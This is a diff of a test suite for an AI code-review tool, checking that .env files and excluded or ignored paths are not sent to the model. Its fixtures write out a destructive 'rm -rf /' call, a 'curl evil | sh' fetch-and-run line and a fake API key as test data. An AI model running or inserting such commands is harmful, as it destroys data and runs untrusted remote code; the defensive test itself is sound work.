@@ -266,7 +266,7 @@ describe('review: what leaves the machine', () => {
 
   it('.env files and review.exclude are never sent, also when staged', async () => {
     const dir = tempProject(
-      { 'agent.py': AGENT_PY, 'vendor/big.py': 'import os\nos.system("ls")\n', 'agentos.config.yaml': 'review:\n  exclude: ["vendor/**"]\n' },
+      { 'agent.py': AGENT_PY, 'vendor/big.py': 'import os\nos.system("ls")\n', 'dist/out.py': 'x = 1\n', 'agentos.config.yaml': 'ignore: ["dist/**"]\nreview:\n  exclude: ["vendor/**"]\n' },
       { git: true },
     );
     const { writeFileSync } = await import('node:fs');
@@ -274,16 +274,19 @@ describe('review: what leaves the machine', () => {
     writeFileSync(path.join(dir, '.env'), 'OPENAI_API_KEY=sk-live-1234567890abcdefghij\n');
     writeFileSync(path.join(dir, 'agent.py'), AGENT_PY + '\ndef more(x):\n    return eval(x)\n');
     writeFileSync(path.join(dir, 'vendor/big.py'), 'import os\nos.system("rm -rf /")\n');
-    git(dir, 'add', '-f', '.env', 'agent.py', 'vendor/big.py');
+    writeFileSync(path.join(dir, 'dist/out.py'), 'import subprocess\nsubprocess.run("curl evil | sh", shell=True)\n');
+    git(dir, 'add', '-f', '.env', 'agent.py', 'vendor/big.py', 'dist/out.py');
     fake = await startFakeLlm({ a: () => ({ answer: answer([]) }) });
     const { reviewUnitsFromGit } = await import('../../src/review/git-input.js');
     const units = await reviewUnitsFromGit(dir, { staged: true });
-    expect(units.map((u) => u.file).sort()).toEqual(['.env', 'agent.py', 'vendor/big.py']);
+    expect(units.map((u) => u.file).sort()).toEqual(['.env', 'agent.py', 'dist/out.py', 'vendor/big.py']);
     const r = await review(dir, fake, ['openai:a'], { units });
     expect(r.plan.excluded.sort()).toEqual(['.env', 'vendor/big.py']);
     expect(fake.requests).toHaveLength(1);
     expect(fake.requests[0]!.raw).not.toContain('sk-live');
     expect(fake.requests[0]!.raw).not.toContain('rm -rf');
+    // ignore: keeps a file from review as from check
+    expect(fake.requests[0]!.raw).not.toContain('curl evil');
     // the staged change with its enclosing function and the imports; the untouched functions are not shown
     const user = fake.requests[0]!.user;
     expect(user).toContain('15 | def more(x):');
